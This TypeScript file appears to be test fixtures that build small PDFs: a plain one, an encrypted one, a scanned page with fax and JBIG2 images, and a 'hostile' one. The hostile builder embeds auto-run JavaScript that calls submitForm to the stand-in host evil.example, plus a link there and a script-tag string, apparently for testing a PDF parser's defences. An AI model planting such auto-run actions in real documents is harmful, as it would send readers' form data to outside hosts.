interface PdfParts {
  /** What each page draws, in the operators of a content stream; fonts are F1 (Helvetica) and F2 (Japanese, not embedded). */
  pages: readonly string[];
  /** Further entries of every page, of the catalog and of the trailer. */
  page?: string;
  catalog?: string;
  trailer?: string;
  /** Further objects, numbered from 10; the first is "10 0 obj". */
  objects?: readonly string[];
  /** Named pictures of every page: "/Scan 10 0 R". */
  pictures?: string;
}

const FIRST_FREE = 10;
const FONTS = {
  3: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  4: '<< /Type /Font /Subtype /Type0 /BaseFont /KozMinPr6N-Regular /Encoding /UniJIS-UTF16-H /DescendantFonts [5 0 R] >>',
  5: '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /KozMinPr6N-Regular /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 6 >> /FontDescriptor 6 0 R >>',
  6: '<< /Type /FontDescriptor /FontName /KozMinPr6N-Regular /Flags 4 /FontBBox [0 -120 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 700 /StemV 80 >>',
};

/** A stream object of these bytes, given as Latin-1 text. */
export function makePdfStream(entries: string, content: string): string {
  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** A line of Helvetica, 14 points, at this height. */
export function writeLine(text: string, y: number): string {
  return `BT /F1 14 Tf 40 ${y} Td (${text}) Tj ET`;
}

/** A small PDF, byte by byte, 300 by 400 points a page. */
export function makePdf(parts: PdfParts): Buffer {
  const { pages, page = '', catalog = '', trailer = '', objects = [], pictures = '' } = parts;
  const firstPage = FIRST_FREE + objects.length;
  const kids = pages.map((_, index) => `${firstPage + 2 * index} 0 R`);
  const numbered = new Map<number, string>([
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [2, `<< /Type /Pages /Count ${pages.length} /Kids [${kids.join(' ')}] >>`],
    ...Object.entries(FONTS).map(([number, font]): [number, string] => [Number(number), font]),
    ...objects.map((object, index): [number, string] => [FIRST_FREE + index, object]),
  ]);
  const resources = `<< /Font << /F1 3 0 R /F2 4 0 R >> /XObject << ${pictures} >> >>`;
  for (const [index, content] of pages.entries()) {
    const number = firstPage + 2 * index;
    const box = `/MediaBox [0 0 300 400] /Resources ${resources} /Contents ${number + 1} 0 R`;
    numbered.set(number, `<< /Type /Page /Parent 2 0 R ${box} ${page} >>`);
    numbered.set(number + 1, makePdfStream('', content));
  }
  let text = '%PDF-1.7\n';
  const places = new Map<number, number>();
  for (const [number, object] of numbered) {
    places.set(number, text.length);
    text += `${number} 0 obj\n${object}\nendobj\n`;
  }
  const size = firstPage + 2 * pages.length;
  const entries = Array.from({ length: size }, (_, number) => {
    const place = places.get(number);
    return place === undefined ? '0000000000 65535 f \n' : `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  text += `xref\n0 ${size}\n${entries.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const FILLER = '0'.repeat(64);

/** Says that it is encrypted, and no empty password opens it. */
export function makeLockedPdf(): Buffer {
  const lock = `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${FILLER}> /U <${FILLER}> >>`;
  const trailer = `/Encrypt ${lock} /ID [<${FILLER}> <${FILLER}>]`;
  return makePdf({ pages: [writeLine('Nobody reads this', 300)], trailer });
}

/** Everything that a hostile file would like to be run, followed or filled in. */
export function makeHostilePdf(): Buffer {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example/"\\);) >>';
  const link = '<< /S /URI /URI (http://evil.example/pressed) >>';
  return makePdf({
    pages: [`${writeLine('Press here to win', 300)} ${writeLine('<script>run()</script>', 260)}`],
    catalog: `/OpenAction 10 0 R /AcroForm << /Fields [12 0 R] >> /Names << /JavaScript << /Names [(a) 10 0 R] >> >> /AA << /WC 10 0 R >>`,
    page: '/Annots [11 0 R 12 0 R] /AA << /O 10 0 R >>',
    objects: [
      script,
      `<< /Type /Annot /Subtype /Link /Rect [30 290 270 320] /Border [0 0 1] /A ${link} >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (filled in) /Rect [30 200 270 220] /AA << /K 10 0 R >> >>`,
    ],
  });
}

const bitsToText = (bits: string): string =>
  (bits.replaceAll(' ', '').match(/.{1,8}/g) ?? [])
    .map((byte) => String.fromCharCode(Number.parseInt(byte.padEnd(8, '0'), 2)))
    .join('');

/** Eight black rows of eight as a fax machine writes them (T.6): the first row in full, the others "as above", the end. */
const BLACK_ROWS = `001 00110101 000101 ${'11'.repeat(7)}`;
const FAX = bitsToText(`${BLACK_ROWS} 000000000001 000000000001`);

const number32 = (value: number): string =>
  String.fromCharCode((value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255);

/** The same square as a segment of a page, with the fax coding inside (T.88). */
function makeJbig2(): string {
  const page = number32(8) + number32(8) + number32(0) + number32(0) + '\u0000\u0000\u0000';
  const region = `${number32(8)}${number32(8)}${number32(0)}${number32(0)}\u0000\u0001${FAX}`;
  const segment = (index: number, kind: number, data: string) =>
    `${number32(index)}${String.fromCharCode(kind)}\u0000\u0001${number32(data.length)}${data}`;
  return segment(0, 48, page) + segment(1, 38, region);
}

/** A page with two black squares, as scanners write them: by fax coding at the left, by JBIG2 at the right. */
export function makeScannedPdf(): Buffer {
  const picture = '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1';
  const fax = '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >>';
  return makePdf({
    pages: ['q 100 0 0 100 20 200 cm /Fax Do Q q 100 0 0 100 180 200 cm /Bilevel Do Q'],
    pictures: '/Fax 10 0 R /Bilevel 11 0 R',
    objects: [makePdfStream(`${picture} ${fax}`, FAX), makePdfStream(`${picture} /Filter /JBIG2Decode`, makeJbig2())],
  });
}
